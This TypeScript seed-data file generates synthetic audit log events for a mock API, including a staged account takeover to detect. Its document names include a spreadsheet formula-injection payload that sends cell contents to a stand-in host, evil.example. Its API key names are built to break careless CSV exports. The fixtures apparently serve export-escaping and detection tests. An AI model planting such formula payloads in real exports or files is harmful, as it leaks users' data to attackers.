import type { IdGenerator } from '../ids.ts';
import type { Random } from '../random.ts';
import type { AuditLogEntity, AuditLogEvent, AuditLogMetadata, Membership, Organization, User } from '../resources.ts';
import { timestamp } from '../timestamps.ts';

const FIRST_EVENT = Date.parse('2026-08-01T00:00:00.000Z');
const LAST_EVENT = Date.parse('2026-10-31T23:59:00.000Z');
const MINUTE_MS = 60_000;

/** In the order of the organizations. */
const EVENTS_PER_ORGANIZATION = [170, 110, 90, 25, 30, 20, 15];

const USER_AGENTS = [
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101 Firefox/143.0',
  'acme-cli/2.4.1 (linux; "release, signed")',
];

const DOCUMENTS = [
  'Q3 forecast',
  'Q3 "final", revised',
  'Onboarding checklist',
  'Line one\nLine two',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open me")',
  'Lieferverträge Österreich',
  'Pricing, 2027',
];

const TARGET_TYPES: Record<string, string> = {
  'user.signed_in': 'session',
  'user.signed_out': 'session',
  'user.login_failed': 'session',
  'document.viewed': 'document',
  'document.updated': 'document',
  'document.deleted': 'document',
  'invoice.downloaded': 'invoice',
  'role.changed': 'membership',
  'api_key.created': 'api_key',
};

/** An action's share of this list is its share of the events. */
const ACTIONS = [
  ...Array<string>(7).fill('user.signed_in'),
  ...Array<string>(4).fill('user.signed_out'),
  ...Array<string>(8).fill('document.viewed'),
  ...Array<string>(4).fill('document.updated'),
  ...['document.deleted', 'user.login_failed', 'invoice.downloaded', 'role.changed'],
];

type Draft = Omit<AuditLogEvent, 'id'>;

/** Three months of audit log events, oldest first, with one account takeover to find. */
export function seedAuditLogEvents(
  ids: IdGenerator,
  random: Random,
  data: { organizations: Organization[]; users: User[]; memberships: Membership[] },
): AuditLogEvent[] {
  const drafts: Draft[] = [];
  for (const [position, organization] of data.organizations.entries()) {
    const members = membersOf(organization, data.users, data.memberships);
    for (let index = 0; index < (EVENTS_PER_ORGANIZATION[position] ?? 0); index++) {
      const member = members[Math.floor(random() * members.length)];
      if (member) drafts.push(routineEvent(ids, random, organization.id, member));
    }
  }
  const [acme] = data.organizations;
  const victim = acme && membersOf(acme, data.users, data.memberships)[1];
  const incidents = acme && victim ? [...accountTakeover(acme.id, victim), ...nightlyJobs(acme.id)] : [];
  return [...drafts, ...incidents]
    .sort((a, b) => a.occurred_at.localeCompare(b.occurred_at))
    .map((draft) => ({ id: ids.at('audit_log_event', Date.parse(draft.occurred_at)), ...draft }));
}

function membersOf(organization: Organization, users: User[], memberships: Membership[]): User[] {
  const own = memberships.filter((membership) => membership.organization_id === organization.id);
  return own.flatMap((membership) => users.find((user) => user.id === membership.user_id) ?? []);
}

function routineEvent(ids: IdGenerator, random: Random, organizationId: string, member: User): Draft {
  const action = ACTIONS[Math.floor(random() * ACTIONS.length)] ?? 'user.signed_in';
  const type = TARGET_TYPES[action] ?? 'session';
  const target: AuditLogEntity = { id: `${type}_${ids.token(8)}`, type };
  if (type === 'document') target.name = DOCUMENTS[Math.floor(random() * DOCUMENTS.length)] ?? '';
  return {
    organization_id: organizationId,
    action,
    occurred_at: timestamp(FIRST_EVENT + Math.floor(random() * (LAST_EVENT - FIRST_EVENT))),
    version: 1,
    actor: toActor(member),
    targets: [target],
    context: {
      location: `198.51.100.${1 + Math.floor(random() * 250)}`,
      user_agent: USER_AGENTS[Math.floor(random() * USER_AGENTS.length)] ?? '',
    },
    metadata: routineMetadata(action, random),
  };
}

function routineMetadata(action: string, random: Random): AuditLogMetadata {
  if (action === 'role.changed') return { from: 'member', to: random() < 0.5 ? 'auditor' : 'billing-manager' };
  if (action.startsWith('user.')) return { method: random() < 0.7 ? 'sso' : 'password' };
  return {};
}

/** Within an hour, from one address: failed logins, a success, a role change, a new API key and a series of deletions. */
function accountTakeover(organizationId: string, victim: User): Draft[] {
  const start = Date.parse('2026-10-17T02:11:00.000Z');
  const steps = [
    ...Array<string>(24).fill('user.login_failed'),
    ...['user.signed_in', 'role.changed', 'api_key.created'],
    ...Array<string>(6).fill('document.deleted'),
  ];
  return steps.map((action, index) => {
    const type = TARGET_TYPES[action] ?? 'session';
    return {
      organization_id: organizationId,
      action,
      occurred_at: timestamp(start + index * 1.5 * MINUTE_MS),
      version: 1,
      actor: toActor(victim),
      targets: [
        { id: `${type}_BREAKIN${index}`, type, ...(type === 'document' ? { name: 'Firmware signing keys' } : {}) },
      ],
      context: { location: '203.0.113.66', user_agent: 'python-requests/2.32.3' },
      metadata: action === 'role.changed' ? { from: 'billing-manager', to: 'admin' } : { method: 'password' },
    };
  });
}

/** Events by API keys whose names a careless CSV export would turn into spreadsheet formulas or extra rows. */
function nightlyJobs(organizationId: string): Draft[] {
  return ['=SUM(A1:A9)', 'Nightly\nsync job', '@backup, "weekly"'].map((name, index) => ({
    organization_id: organizationId,
    action: 'export.requested',
    occurred_at: timestamp(Date.parse('2026-09-01T03:00:00.000Z') + index * 24 * 60 * MINUTE_MS),
    version: 1,
    actor: { id: `api_key_JOB${index}`, type: 'api_key', name },
    targets: [{ id: 'report_monthly', type: 'report', name: 'Monthly report' }],
    context: { location: '192.0.2.10' },
    metadata: { rows: 1200 + index, scheduled: true },
  }));
}

function toActor(user: User): AuditLogEntity {
  return { id: user.id, type: 'user', ...(user.name === null ? {} : { name: user.name }) };
}
